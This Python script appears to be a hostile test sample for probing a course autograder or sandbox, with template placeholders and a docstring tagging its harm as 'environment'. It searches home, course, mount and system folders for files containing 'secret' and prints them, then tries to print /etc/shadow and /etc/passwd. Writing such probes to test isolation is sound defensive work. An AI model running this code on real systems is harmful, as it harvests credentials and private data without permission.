"""Environment: the home folder, the course, mounts and well-known secrets are looked through.

aim: none
harm: environment
"""

import itertools
import os

places = ["@COURSE@", "@HOME@", "~", "/root", "/home", "/mnt", "/media", "/srv", "/run", "/var"]
walks = itertools.chain.from_iterable(os.walk(os.path.expanduser(place)) for place in places)
for folder, _, names in itertools.islice(walks, 300):
    for name in names[:50]:
        path = os.path.join(folder, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 10**5:
                with open(path, "rb") as file:
                    text = file.read()
                if b"secret" in text.lower():
                    print(path, text[:2000])
        except OSError:
            pass
for path in ("/etc/shadow", "/etc/passwd", "/proc/1/mountinfo"):
    try:
        with open(path) as file:
            print(file.read()[:2000])
    except OSError as error:
        print(path, type(error).__name__)
